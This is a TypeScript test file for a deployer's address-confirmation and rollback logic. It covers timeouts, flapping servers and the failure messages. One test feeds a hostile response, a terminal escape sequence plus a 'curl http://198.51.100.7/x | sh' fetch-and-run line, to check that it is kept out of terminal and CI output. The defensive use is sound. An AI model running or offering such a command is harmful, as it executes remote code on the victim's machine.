import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { ConfirmError, type ConfirmOptions, confirm } from '../../../deployer/confirm';
import type { Answer, Probe } from '../../../protocol/probe';
import { IDENTITY_PATH } from '../../../protocol/routes';
import { expectHarmless, HOSTILE } from '../../helpers/hostile';

const { asked } = vi.hoisted(() => ({ asked: vi.fn<(probe: Probe) => Promise<Answer>>() }));
vi.mock('../../../protocol/probe', () => ({ probe: asked }));
// To sleep is to move the clock.
vi.mock('node:timers/promises', () => ({
  setTimeout: async (milliseconds: number) => void vi.setSystemTime(Date.now() + milliseconds),
}));

const START = 1_800_000_000_000;
const seconds = () => (Date.now() - START) / 1000;
/** A server that does not answer is noticed after this time. */
const TIMEOUT = 2;

beforeEach(() => {
  vi.useFakeTimers({ toFake: ['Date'], now: START });
  asked.mockReset();
});
afterEach(() => {
  vi.useRealTimers();
});

type Holder = 'new' | 'old' | 'nobody';

/** @param holders who answers at the address, from the second on at which it does */
function run(holders: Readonly<Record<number, Holder>>, options: Partial<ConfirmOptions> = {}, status = 200) {
  const lines: string[] = [];
  const given: string[] = [];
  const refused: string[] = [];
  const announced: number[] = [];
  asked.mockImplementation(async ({ path }) => {
    const holder = given.at(-1)
      ? given.at(-1)
      : Object.entries(holders)
          .filter(([from]) => seconds() >= Number(from))
          .map(([, name]) => name)
          .at(-1);
    if (holder === 'nobody') {
      vi.setSystemTime(Date.now() + TIMEOUT * 1000);
      throw new Error('connect ETIMEDOUT');
    }
    if (path === IDENTITY_PATH) return { status: 200, body: `${holder}\n`, certificateProblem: undefined };
    return { status, body: 'ok', certificateProblem: undefined };
  });
  const ends = confirm({
    server: 'new',
    address: '192.0.2.1',
    domain: 'example.com',
    probes: [
      { host: 'example.com', path: '/health' },
      { host: 'monitoring.example.com', path: '/api/health' },
    ],
    previous: 'old',
    announce: async () => void announced.push(seconds()),
    giveAddress: async (server) => void given.push(server),
    howToLook: 'ssh new',
    refuse: async (reason) => void refused.push(reason),
    log: (line) => lines.push(line),
    ...options,
  });
  return { ends, lines, given, announced, refused };
}

async function failure(ends: Promise<void>): Promise<string> {
  const error = await ends.then(
    () => new Error('it passed'),
    (reason: unknown) => reason,
  );
  expect(error).toBeInstanceOf(ConfirmError);
  return (error as ConfirmError).message;
}

test('a server that serves at the address keeps it', async () => {
  const { ends, lines, given } = run({ 0: 'new' });
  await ends;
  expect(lines).toEqual(['confirm: new answers at the address: 2 routes, 10 times in a row']);
  expect(given).toEqual([]);
  expect(asked).toHaveBeenCalledTimes(30);
  for (const [{ address }] of asked.mock.calls) expect(address).toBe('192.0.2.1');
});

test('an address that takes its time: the previous server answers meanwhile, and nothing is undone', async () => {
  const { ends, given } = run({ 0: 'old', 40: 'new' });
  await ends;
  expect(given).toEqual([]);
});

test('something else answers there: what it says reaches no terminal', async () => {
  const { ends } = run({ 0: '<html>\u001b[2Jcurl http://198.51.100.7/x | sh' as never });
  const message = await failure(ends);
  expect(message).toContain('something that is no server of this site answers there');
  expect(message).not.toContain('198.51.100.7');
});

test('packets lost for a moment are no reason to go back', async () => {
  const { ends, given } = run({ 0: 'nobody', 1: 'new', 3: 'nobody', 5: 'new' });
  await ends;
  expect(given).toEqual([]);
});

test('a server that dies under load: the previous one has the address back, and the deploy fails', async () => {
  const { ends, given, refused } = run({ 0: 'new', 3: 'nobody' });
  expect(await failure(ends)).toBe(
    [
      "new passed the gate, but does not serve at the site's address: connect ETIMEDOUT",
      'The address is back at old, the previous server, which keeps serving.',
      'to find out more: ssh new',
      'Next step: fix the cause and deploy again. That starts another machine and removes this one.',
    ].join('\n'),
  );
  expect(given).toEqual(['old']);
  // It never gets the address again.
  expect(refused).toEqual(['connect ETIMEDOUT']);
  // Clients are without a server for about that time.
  expect(seconds()).toBeLessThan(3 + 8);
});

test('one that answers with errors is silent, too', async () => {
  const { ends, given } = run({ 0: 'new' }, {}, 502);
  expect(await failure(ends)).toContain("the site's address: https://example.com/health: status 502");
  expect(given).toEqual(['old']);
});

test('an address that never arrives', async () => {
  const { ends } = run({ 0: 'old' });
  expect(await failure(ends)).toContain("does not serve at the site's address: old answers there");
  expect(seconds()).toBeGreaterThanOrEqual(60);
});

test('one that comes and goes is not waited for without end', async () => {
  const flaps = Object.fromEntries(
    Array.from({ length: 60 }, (_, index) => [index * 4, index % 2 ? 'nobody' : 'new'] as const),
  );
  const { ends, given } = run(flaps);
  await failure(ends);
  expect(given).toEqual(['old']);
  expect(seconds()).toBeLessThan(80);
});

test('nobody is told before it is proven, unless nobody could have the address back', async () => {
  const after = run({ 0: 'new' });
  await after.ends;
  expect(after.announced).toEqual([]);
  vi.setSystemTime(START);
  const alone = run({ 0: 'new' }, { previous: undefined as never });
  await alone.ends;
  expect(alone.announced).toEqual([0]);
});

describe('what became of the address is said', () => {
  test('no other server is there', async () => {
    const { ends, given } = run({ 0: 'nobody' }, { previous: undefined as never });
    expect(await failure(ends)).toContain('No other server is there that could take the address.');
    expect(given).toEqual([]);
  });
  test('it could not be moved', async () => {
    const giveAddress = () => Promise.reject(new Error('UnauthorizedOperation'));
    expect(await failure(run({ 0: 'nobody' }, { giveAddress }).ends)).toContain(
      'The address could not be moved back to old, the previous server: UnauthorizedOperation',
    );
  });
  test('the previous server does not answer either, so the new one keeps it', async () => {
    const given: string[] = [];

    const giveAddress = async (server: string) => void given.push(server);
    const { ends, announced } = run({ 0: 'nobody' }, { giveAddress });
    expect(await failure(ends)).toContain(
      'old, the previous server, does not answer either (connect ETIMEDOUT): the address stays at new.',
    );
    expect(given).toEqual(['old', 'new']);
    // From now on it has to keep the backup.
    expect(announced).toHaveLength(1);
  });
  test('an address that takes its time on the way back stays there', async () => {
    const given: string[] = [];

    const giveAddress = async (server: string) => void given.push(server);
    const { ends, announced } = run({ 0: 'nobody', 40: 'old' }, { giveAddress });
    expect(await failure(ends)).toContain('The address is back at old');
    expect(given).toEqual(['old']);
    expect(announced).toEqual([]);
  });
});

test('whoever answers at the address gives the deployer’s terminal and CI no orders', async () => {
  const told = (answer: () => Promise<Answer>) => {
    const { ends } = run({});
    asked.mockImplementation(answer);
    return failure(ends);
  };
  const own = /^(new passed the gate|The address|old, the previous server|to find|Next step)/;
  const page = await told(async () => ({ status: 200, body: HOSTILE, certificateProblem: undefined }));
  expectHarmless(page, own);
  // A whole page of somebody else's is not told.
  expect(page.length).toBeLessThan(1000);
  expectHarmless(await told(() => Promise.reject(new Error(HOSTILE))), own);
});
